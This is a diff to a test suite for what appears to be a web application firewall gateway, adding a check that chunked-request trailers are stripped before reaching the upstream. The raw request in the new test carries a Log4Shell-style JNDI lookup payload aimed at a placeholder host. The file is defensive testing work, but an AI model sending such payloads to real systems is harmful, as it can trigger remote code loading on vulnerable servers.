@@ -23,7 +23,13 @@ describe('waf: the protocol', () => {
   let gateway: TestGateway;
 
   before(async () => {
-    const upstream = await given.upstream({});
+    const upstream = await given.upstream({
+      behaviours: {
+        trailed: (request, response) => {
+          request.resume().on('end', () => response.end(JSON.stringify(request.trailers)));
+        },
+      },
+    });
     gateway = await given.gateway({
       bundle: plainBundle([upstream.address], {
         waf: {
@@ -92,5 +98,13 @@ describe('waf: the protocol', () => {
   it('expressions see it too', async () => {
     assert.equal((await asked('/second')).status, 403);
     assert.equal((await ask(gateway.ports.http, '/second', { headers: { host: 'shop.test' } })).status, 200);
+  });
+
+  it('trailers of a request end here: no rule has seen them', async () => {
+    const { status, body } = await askRaw(
+      { port: gateway.ports.http },
+      'POST /trailed HTTP/1.1\r\nHost: shop.test\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX-Api: ${jndi:ldap://x.test}\r\n\r\n',
+    );
+    assert.deepEqual([status, body.toString()], [200, '{}']);
   });
 });
